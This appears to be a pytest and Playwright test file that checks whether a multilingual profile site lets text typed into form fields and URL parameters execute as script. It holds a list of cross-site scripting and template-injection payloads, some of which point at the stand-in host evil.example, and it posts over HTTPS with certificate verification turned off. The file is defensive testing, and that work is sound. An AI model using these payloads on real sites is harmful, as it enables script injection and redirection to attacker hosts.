"""Text that tries to become a program, in every field that people type into, shown in a browser."""

from typing import Any
from urllib.parse import urlencode

import httpx
import pytest
from playwright.sync_api import Browser

from app.policy import Role
from tests.browser.site import Site, visiting

RUN = "window.ran=1"
CORPUS = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg onload='{RUN}'>",
    f"</title><script>{RUN}</script>",
    f"</textarea></select><script>{RUN}</script>",
    f"javascript:{RUN}//",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"{{{{ ''.__class__ }}}}${{{RUN}}}{{% raise %}}",
    f'<a href="javascript:{RUN}">x</a>',
    "<style>@import '//evil.example'</style><b style='background:url(//evil.example)'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"\u2028{RUN}\u2029%(name)s {{0}}",
    f"<math><mi xlink:href='data:x,<script>{RUN}</script>'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    f"<form action=//evil.example><input name=csrf autofocus onfocus={RUN}>",
)


@pytest.mark.parametrize("language", ["ar", "en"])
def test_27_nothing_typed_runs_in_a_browser(site: Site, chromium: Browser, language: str) -> None:
    people = [_person(text) for text in CORPUS]
    ids = [_create(site, person) for person in people]
    with visiting(site, chromium) as visitor:
        visitor.be(Role.DESK)
        page = visitor.page
        page.on("dialog", lambda dialog: visitor.complaints.append("a dialog"))
        for text, id_ in zip(CORPUS, ids, strict=True):
            visitor.go(f"/{language}/profiles/{id_}")
            assert page.evaluate("window.ran") is None, text
            # Shown as it was typed, and so it cannot have been anything else.
            assert " ".join(text.split()) in " ".join(page.locator("h1").inner_text().split()), text
            page.goto(_with(f"{site.address}/{language}/find", q=text))
            assert page.evaluate("window.ran") is None, text
            assert page.input_value("#q") == text
        visitor.go(f"/{language}/find?sort=-confirmed_at&limit=100")
        assert page.evaluate("window.ran") is None
        assert page.locator("main :is(script, style, iframe, img, math, base, meta)").count() == 0


def test_27_what_is_typed_into_a_form_comes_back_as_text(site: Site, chromium: Browser) -> None:
    with visiting(site, chromium) as visitor:
        for text in CORPUS:
            for path in ("/en/sign-in", "/fr/password-reset"):
                visitor.go(path)
                visitor.page.fill("#email", text)
                visitor.page.click("main form button")
                assert visitor.page.evaluate("window.ran") is None
                assert visitor.page.input_value("#email") == text


def test_27_what_an_address_holds_stays_text(site: Site, chromium: Browser) -> None:
    with visiting(site, chromium) as visitor:
        visitor.be(Role.DESK)
        for text in CORPUS:
            everywhere = dict.fromkeys(("language", "sort", "available", "cursor", "facets", text[:50]), text)
            visitor.page.goto(_with(f"{site.address}/en/find", **everywhere))
            assert visitor.page.evaluate("window.ran") is None, text
            visitor.page.goto(_with(f"{site.address}/en/sign-in", next=text, done=text))
            assert visitor.page.evaluate("window.ran") is None, text


def _with(address: str, **parameters: str) -> str:
    return f"{address}?{urlencode(parameters)}"


def _create(site: Site, person: dict[str, Any]) -> str:
    headers = {"Authorization": f"Bearer {site.cast[Role.DESK].token}"}
    # Without https there is nobody to verify: reading whom to trust takes longer than asking.
    answer = httpx.post(f"{site.address}/api/v1/profiles", json=person, headers=headers, verify=False, timeout=30)
    assert answer.status_code == 201, answer.text
    return str(answer.json()["id"])


def _person(text: str) -> dict[str, Any]:
    """With `text` in every field that takes any."""
    engagement = {"title": text, "organisation_name": text, "country": "TN", "starts": "2019", "ends": None}
    everywhere = dict.fromkeys(("ar", "en", "fr"), text)
    return {
        "name": text,
        "names": [
            {"text": text, "script": "Arab", "kind": "official"},
            {"text": text, "script": "Latn", "kind": "former"},
        ],
        "title": text,
        "affiliation": text,
        "nomination_reference": text,
        "headline": everywhere,
        "biography": everywhere,
        "offices": [engagement],
        "missions": [engagement],
        "certificates": [{"programme": text, "issuer": text, "edition": text, "verified_by": text}],
        "contacts": [{"kind": "other", "value": text}],
        "desk_notes": text,
        "external_reference": text,
        "unresolved": [{"field": text, "text": text, "reason": text}],
    }
